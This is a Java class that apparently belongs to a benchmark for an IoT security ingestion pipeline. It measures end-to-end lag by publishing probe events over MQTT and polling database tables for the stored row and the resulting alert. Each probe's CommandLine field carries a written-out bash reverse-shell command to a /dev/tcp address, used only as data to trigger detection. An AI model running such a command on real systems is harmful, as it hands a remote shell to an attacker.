package io.vigil.benchmarks.ingest;

import io.netty.handler.codec.mqtt.MqttQoS;
import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.mqtt.MqttClient;
import io.vertx.mqtt.MqttClientOptions;
import io.vigil.simulator.identity.DeviceLogins;
import io.vigil.simulator.identity.RegistryProvisioner;

import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.UUID;
import java.util.concurrent.TimeUnit;

/**
 * End-to-end lag under load: once a second one probe message goes through the same broker and pipeline as the
 * load, and its lag is the time from its publication to the moment its row was stored ({@code time_generated},
 * from the database's clock on the same machine).
 */
final class LagProbe implements AutoCloseable {

    private static final String DEVICE = "bench-probe";

    private final Vertx vertx = Vertx.vertx();
    private final MqttClient client;
    private final Connection database;
    private final List<Double> lagsMillis = new ArrayList<>();
    private final List<Double> alertLagsMillis = new ArrayList<>();
    private int lost;
    private int lostAlerts;

    /** Connects as the probe device; with a registry, logged in with a SAS token as devices must be. */
    LagProbe(String brokerHost, int brokerPort, Connection database, Optional<RegistryProvisioner> registry) throws Exception {
        this.database = database;
        MqttClientOptions options = new MqttClientOptions().setClientId(registry.isPresent() ? DEVICE : DEVICE + "-" + UUID.randomUUID());
        if (registry.isPresent()) {
            DeviceLogins logins = new DeviceLogins(brokerHost, registry.get().keys(List.of(DEVICE)));
            options.setUsername(logins.username(DEVICE).orElseThrow()).setPassword(logins.password(DEVICE).orElseThrow());
        }
        this.client = MqttClient.create(vertx, options);
        client.connect(brokerPort, brokerHost).toCompletionStage().toCompletableFuture().get(10, TimeUnit.SECONDS);
    }

    /**
     * Publishes one probe, a reverse shell with a marker of its own, and waits (up to the timeout) for its raw-event
     * row and for the SecurityAlert record its alert gets (every hit appends one, with the hit's command line);
     * records both lags, measured on the database's clock like the rows' TimeGenerated.
     */
    void probe(Duration timeout) throws Exception {
        String eventId = UUID.randomUUID().toString();
        // The database keeps microseconds; a probe must be found by the very timestamp it was stored under.
        Instant sent = Instant.now().truncatedTo(java.time.temporal.ChronoUnit.MICROS);
        String marker = "probe-" + eventId;
        String body = "{\"AgentVersion\":\"1.0.0\",\"AgentId\":\"5d8f2a1c-3b4e-4f6a-9c7d-1e2f3a4b5c6d\",\"MessageSchemaVersion\":\"1.0\","
                + "\"Events\":[{\"Id\":\"" + eventId + "\",\"TimestampLocal\":\"" + sent + "\",\"TimestampUTC\":\"" + sent + "\","
                + "\"Category\":\"Triggered\",\"Name\":\"ProcessCreate\",\"EventType\":\"Security\",\"IsEmpty\":false,"
                + "\"PayloadSchemaVersion\":\"1.0\",\"Payload\":[{\"Executable\":\"/bin/bash\",\"ProcessId\":1,"
                + "\"ParentProcessId\":1,\"UserId\":\"0\",\"CommandLine\":\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 # " + marker + "\"}]}]}";
        client.publish("devices/" + DEVICE + "/messages/events/%24.ifid=urn%3Aazureiot%3ASecurity%3ASecurityAgent%3A1",
                Buffer.buffer(body.getBytes(StandardCharsets.UTF_8)), MqttQoS.AT_LEAST_ONCE, false, false);
        long deadline = System.nanoTime() + timeout.toNanos();
        try (PreparedStatement row = database.prepareStatement("SELECT time_generated FROM workspace.security_iot_raw_event"
                + " WHERE device_id = ? AND iot_raw_event_id = ? AND time_stamp = ?");
             PreparedStatement alert = database.prepareStatement("SELECT time_generated FROM workspace.security_alert"
                     + " WHERE device_id = ? AND time_generated >= ? AND extended_properties LIKE ?")) {
            row.setString(1, DEVICE);
            row.setString(2, eventId);
            row.setObject(3, java.time.OffsetDateTime.ofInstant(sent, java.time.ZoneOffset.UTC));
            alert.setString(1, DEVICE);
            alert.setObject(2, java.time.OffsetDateTime.ofInstant(sent.minusSeconds(5), java.time.ZoneOffset.UTC));
            alert.setString(3, "%" + marker + "%");
            boolean stored = false;
            boolean alerted = false;
            while (System.nanoTime() < deadline && !(stored && alerted)) {
                stored = stored || lag(row, sent, lagsMillis);
                alerted = alerted || lag(alert, sent, alertLagsMillis);
                Thread.sleep(20);
            }
            lost += stored ? 0 : 1;
            lostAlerts += alerted ? 0 : 1;
        }
    }

    /** True when the query finds the probe's row; records how long after sending it was written. */
    private static boolean lag(PreparedStatement find, Instant sent, List<Double> lags) throws SQLException {
        try (ResultSet result = find.executeQuery()) {
            if (!result.next()) {
                return false;
            }
            Instant written = result.getObject(1, java.time.OffsetDateTime.class).toInstant();
            lags.add(Math.max(0, Duration.between(sent, written).toNanos() / 1e6));
            return true;
        }
    }

    /** Publish to SecurityAlert record lags, in milliseconds. */
    List<Double> alertLagsMillis() {
        return alertLagsMillis;
    }

    int alertsUnanswered() {
        return lostAlerts;
    }

    List<Double> lagsMillis() {
        return lagsMillis;
    }

    int unanswered() {
        return lost;
    }

    @Override
    public void close() throws SQLException {
        client.disconnect();
        vertx.close();
    }
}
